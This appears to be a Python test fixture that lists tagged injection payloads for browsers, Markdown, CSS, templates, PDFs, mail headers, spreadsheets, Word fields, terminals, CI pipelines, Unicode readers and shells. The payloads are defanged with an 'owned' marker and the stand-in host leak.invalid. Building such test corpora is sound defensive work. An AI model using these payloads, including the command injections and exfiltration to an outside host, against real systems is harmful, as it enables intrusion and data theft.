"""Texts that are commands to somebody: to a browser, a reader of PDFs, a mail program, a spreadsheet, a terminal, a shell.

Each has its number in it as a word, `qz07` or so, in a part that readers have to see: so it is known wherever it turns up. It stands for `§`.
What it would do if somebody obeyed it is to call `owned`, to load `leak.invalid`, or to make a file named `owned`.
"""

from __future__ import annotations

from typing import NamedTuple


class Payload(NamedTuple):
    """A text, by the word that is in it, and whom it is for."""

    word: str
    target: str
    text: str


_TEXTS = {
    "browser": [
        "<script>owned('§')</script>",
        "</title><script>owned('§')</script>",
        "</script><script>owned('§')</script>",
        "<img src=x onerror=owned('§')> §",
        "<svg/onload=owned('§')> §",
        "<svg><script>owned('§')</script></svg>",
        "<body onload=owned('§')> §",
        "<iframe srcdoc='<script>parent.owned(1)</script>'></iframe> §",
        "<details open ontoggle=owned('§')> §",
        "<math><mtext></mtext><mglyph><style><img src=x onerror=owned('§')></style> §",
        '" onmouseover="owned(\'§\')" x="',
        "' autofocus onfocus=owned('§') x='",
        "` onclick=owned('§') `",
        "--><script>owned('§')</script><!--",
        "<!-- § --><b>bold §</b>",
        "]]><script>owned('§')</script><![CDATA[",
        "&lt;script&gt;owned('§')&lt;/script&gt;",
        "&#60;script&#62;owned('§')&#60;/script&#62;",
        "\uff1cscript\uff1eowned('§')\uff1c/script\uff1e",
        "<scr<script>ipt>owned('§')</scr</script>ipt>",
        "<style>body{background:url(//leak.invalid/§)}</style>",
        "</style><script>owned('§')</script>",
        "<link rel=stylesheet href=//leak.invalid/§.css> §",
        "<meta http-equiv=refresh content='0;url=//leak.invalid/§'> §",
        "<base href=//leak.invalid/§/> §",
        "<form action=//leak.invalid/§><input name=x><button>§</button></form>",
        "<a href=javascript:owned('§')>§</a>",
        "<object data=//leak.invalid/§></object> §",
        "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/hostname'>]> § &y;",
        "{\"@context\": 1}</script><script>owned('§')</script>",
    ],
    "link": [
        "[§](javascript:owned('§'))",
        "[§](JaVaScRiPt:owned(1))",
        "[§](java&#115;cript:owned(1))",
        "[§](&#x6a;avascript&colon;owned(1))",
        "[§](<java\tscript:owned(1)>)",
        "[§](data:text/html;base64,PHNjcmlwdD5vd25lZCgxKTwvc2NyaXB0Pg==)",
        "[§](vbscript:owned)",
        "[§](file:///etc/hostname)",
        "[§](//leak.invalid/§)",
        "[§](https://example.org@leak.invalid/§)",
        "[§](\\\\leak.invalid\\§)",
        "![§](http://leak.invalid/§.png)",
        "![§](../../../etc/hostname)",
        "<javascript:owned('§')> §",
        "[§]{onclick=\"owned('§')\"}",
        '[§]{style="background:url(//leak.invalid/§)"}',
        "`<script>owned('§')</script>`{=html}",
        "[§][r]\n\n[r]: javascript:owned(1)",
    ],
    "style": [
        "§; } body { background: url(//leak.invalid/§) }",
        '§"; content: url(//leak.invalid/§); x: "',
        "§ */ @import '//leak.invalid/§'; /*",
        "§ expression(owned(1))",
    ],
    "template": [
        "{{ 7 * 7 }} §",
        "{% import 'os' as os %}{{ os.system('touch owned') }} §",
        "{{ ''.__class__.__mro__[1].__subclasses__() }} §",
        "{# § #}",
        "{{organisations}} ${7*7} #{7*7} <%= 7*7 %> §",
        "%(§)s {0} {self} %n%n%s",
    ],
    "PDF": [
        "§) /OpenAction << /S /JavaScript /JS (owned) >> (",
        "§ >> endobj 1 0 obj << /Type /Catalog /AA << /O << /S /Launch /F (owned) >> >> >>",
        "§ \\) /URI (file:///etc/hostname) \\(",
        "§ endstream endobj trailer << /Root 1 0 R >> startxref",
        "§ </rdf:li></rdf:Alt></dc:title><pdf:Keywords>owned</pdf:Keywords><x:y>",
        "/§#20/JS#28owned#29",
    ],
    "mail": [
        "§\r\nBcc: everybody@leak.invalid",
        "§\nBcc: everybody@leak.invalid\n\nowned",
        "§ =?utf-8?q?=0D=0ABcc:_everybody@leak.invalid?=",
        "§\n.\nMAIL FROM:<everybody@leak.invalid>",
        "§\n--===============0==\nContent-Type: text/html\n\n<script>owned(1)</script>",
        '§" <everybody@leak.invalid>, "x',
    ],
    "spreadsheet": [
        '=HYPERLINK("http://leak.invalid/§","§")',
        "+cmd|' /C touch owned'!A0 §",
        "-2+3+cmd|' /C calc'!A0 §",
        "@SUM(1+1)*cmd|' /C calc'!A0 §",
        '\uff1dHYPERLINK("http://leak.invalid/§")',
        "\uff0bcmd|' /C calc'!A0 §",
        "\t=1+1 §",
        "%0A=1+1 §",
        "|calc §",
    ],
    "word processor": [
        '{ INCLUDETEXT "/etc/hostname" } §',
        '{DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k touch owned"} §',
        '</w:t></w:r><w:fldSimple w:instr="DDE owned"/><w:r><w:t>§',
    ],
    "terminal": [
        "\x1b[31m§\x1b[2J",
        "\x1b]0;§\x07",
        "\x1b]8;;http://leak.invalid/\x1b\\§\x1b]8;;\x1b\\",
        "\x9b31m§",
        "§\b\b\b\b\x7f",
        "§\rowned                    ",
        "[bold red]§[/bold red][link=http://leak.invalid/]x[/link]",
        "[/§]",
        ":§: :warning: [§] [x]",
    ],
    "pipeline": [
        "::set-output name=owned::§",
        "§\n::stop-commands::owned",
        "§%0A::error::owned",
        "##[set-env name=owned]§",
        "##vso[task.setvariable variable=owned]§",
        "§ ![x](http://leak.invalid/) | | <img src=x> @everybody",
    ],
    "reader": [
        "\u202e§ detrevni\u202c",
        "\u2066§",
        "§\u2069\u2069",
        "§\u200b\u200b\u00ad\ufeff",
        "§\U000e0041\U000e0042",
        "§\x00owned",
        "§\ud800",
        "§\u2028\u2029§",
        "p\u0430ypal § \u043e\u0440g",
    ],
    "system": [
        "$(touch owned) `touch owned` ; touch owned §",
        "§ && touch owned || touch owned | touch owned > owned",
        "--output=owned §",
        "-oProxyCommand=touch owned §",
        "../../../../etc/hostname §",
        "..\\..\\owned §",
        "/etc/passwd\x00.jpg §",
        "file:///etc/hostname §",
        "ext::sh -c touch% owned §",
        "refs/heads/§..@{1}^{/x}",
        "!!python/object/apply:os.system ['touch owned'] §",
        "%{§}%n %s%s%s%x",
        "|| true; § #",
        "*§ &§ !§ @§",
    ],
}


def _payloads() -> list[Payload]:
    each = [(target, text) for target, texts in _TEXTS.items() for text in texts]
    words = (f"qz{number:03}" for number in range(1, len(each) + 1))
    return [Payload(word, target, text.replace("§", word)) for word, (target, text) in zip(words, each, strict=True)]


PAYLOADS = _payloads()
